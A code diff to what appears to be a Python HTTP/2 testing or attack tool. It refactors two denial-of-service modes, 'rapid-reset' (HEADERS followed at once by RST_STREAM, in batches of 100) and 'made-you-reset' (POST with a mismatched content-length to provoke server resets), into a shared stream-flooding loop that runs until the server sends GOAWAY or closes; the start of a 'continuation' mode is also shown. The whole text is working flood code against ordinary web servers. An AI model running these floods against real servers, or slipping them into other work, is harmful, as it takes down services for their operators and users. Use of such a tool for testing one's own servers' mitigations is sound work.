@@ -256,6 +256,27 @@ def sendall_until_blocked(conn, frame_bytes, count, block_after):
     return written, False
 
 
+def stream_flood(args, frames_for):
+    """Opens --count streams, 100 to a write, each with `frames_for(conn, stream)`, until
+    the server sends a GOAWAY or closes; then reads for 5 s. The connection, and how many
+    streams were sent."""
+    conn = Conn(args)
+    conn.read(0.5)
+    sent = 0
+    try:
+        while sent < args.count and not conn.closed and conn.goaway is None:
+            frames = []
+            for _ in range(100):
+                frames += frames_for(conn, conn.new_stream())
+            conn.send(frames)
+            sent += 100
+            conn.read(0.001)
+    except (ConnectionError, OSError):
+        conn.closed = True
+    conn.read(5)
+    return conn, {"sent": sent}
+
+
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("mode")
@@ -276,43 +297,25 @@ def main():
     result = {}
 
     if args.mode == "rapid-reset":
-        conn = Conn(args)
-        conn.read(0.5)
-        sent = 0
-        try:
-            while sent < args.count and not conn.closed and conn.goaway is None:
-                frames = []
-                for _ in range(100):
-                    stream = conn.new_stream()
-                    block = conn.request_headers(args.path)
-                    frames.append(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
-                    frames.append(RstStreamFrame(stream, error_code=CANCEL))
-                conn.send(frames)
-                sent += 100
-                conn.read(0.001)
-        except (ConnectionError, OSError):
-            conn.closed = True
-        conn.read(5)
-        result = {"sent": sent}
+        conn, result = stream_flood(
+            args,
+            lambda conn, stream: [
+                HeadersFrame(stream, conn.request_headers(args.path), flags=["END_HEADERS", "END_STREAM"]),
+                RstStreamFrame(stream, error_code=CANCEL),
+            ],
+        )
     elif args.mode == "made-you-reset":
-        conn = Conn(args)
-        conn.read(0.5)
-        sent = 0
-        try:
-            while sent < args.count and not conn.closed and conn.goaway is None:
-                batch = b""
-                for _ in range(100):
-                    stream = conn.new_stream()
-                    block = conn.request_headers(args.path, "POST", [("content-length", "1")])
-                    batch += HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()
-                    batch += DataFrame(stream, b"xx", flags=["END_STREAM"]).serialize()
-                conn.sock.sendall(batch)
-                sent += 100
-                conn.read(0.001)
-        except (ConnectionError, OSError):
-            conn.closed = True
-        conn.read(5)
-        result = {"sent": sent}
+        conn, result = stream_flood(
+            args,
+            lambda conn, stream: [
+                HeadersFrame(
+                    stream,
+                    conn.request_headers(args.path, "POST", [("content-length", "1")]),
+                    flags=["END_HEADERS"],
+                ),
+                DataFrame(stream, b"xx", flags=["END_STREAM"]),
+            ],
+        )
     elif args.mode == "continuation":
         conn = Conn(args)
         conn.read(0.5)
